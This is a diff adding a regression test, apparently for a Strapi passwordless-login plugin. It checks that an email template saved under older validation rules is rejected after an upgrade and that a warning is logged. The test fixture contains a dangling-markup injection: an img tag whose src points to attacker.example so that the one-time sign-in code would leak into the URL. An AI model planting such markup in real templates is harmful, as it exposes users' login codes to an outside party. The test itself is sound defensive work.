@@ -236,6 +236,24 @@ describe('templates', () => {
     expect(sent[0].html).not.toContain('attacker.example');
   });
 
+  it('a template saved under the earlier rules is not used after the upgrade, and the log says which part', async () => {
+    const html = `<p>Your code: <%= CODE %></p><img alt=x' src="https://attacker.example/p.gif?a='><%= CODE %>">`;
+    // As the scanner before issue 18 accepted and saved it.
+    await app.strapi
+      .store({ type: 'plugin', name: 'users-permissions' })
+      .set({ key: 'passwordless-templates', value: { value: { default: { html, subject: 'Kept subject' }, locales: {} }, updatedAt: new Date().toISOString() } });
+    app.advanceClock(6_000);
+    const user = await createUser(app.strapi);
+    await ask(app, user.email);
+    await app.settle();
+    const [sent] = app.ses.to(user.email);
+    expect(sent.subject).toBe('Kept subject');
+    expect(sent.html).not.toContain('attacker.example');
+    expect(sent.html).toContain('Your sign-in code:');
+    expect(app.logs.some((line) => line.level === 'warn' && line.message.includes('default.html'))).toBe(true);
+    await call('put', '/templates', superAdmin, VALID_TEMPLATES);
+  });
+
   it('<%= URL %> is refused while no linkUrl is configured (checked like config) — here one is, so it is accepted', async () => {
     const res = await call('put', '/templates', superAdmin, { default: { text: '<%= CODE %> <%= URL %>' }, locales: {} });
     expect(res.status).toBe(200);
